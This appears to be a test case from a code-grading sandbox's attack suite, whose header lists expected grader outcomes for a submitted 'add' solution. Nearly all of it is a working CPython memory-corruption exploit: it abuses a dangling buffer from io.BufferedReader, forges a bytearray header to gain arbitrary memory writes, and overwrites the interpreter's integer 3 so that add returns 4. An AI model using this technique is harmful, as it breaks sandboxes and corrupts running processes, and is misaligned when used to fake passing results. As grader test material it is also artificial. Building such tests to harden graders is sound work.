# attack: by the same hole, makes the number 3 another in its process
# problem: add
# strict: wrong answer | crashed | forbidden call | exception
# reference: wrong answer | crashed | exception
import io
import struct

kept = []


class Raw(io.RawIOBase):
    def readinto(self, view):
        kept.append(view)
        return 0

    def readable(self):
        return True


reader = io.BufferedReader(Raw(), 1 << 15)
reader.read(1)
del reader
victims = [[None] * (1 << 12) for _ in range(64)]
fake = struct.pack("nPnnPPn", 1 << 20, id(bytearray), (1 << 63) - 1, 0, 0, 0, 0)
kept[0][:8] = struct.pack("P", id(fake) + bytes.__basicsize__ - 1)


def add(a, b):
    for victim in victims:
        if type(victim[0]) is bytearray:
            victim[0][id(3) + 24] = 4
    return 4
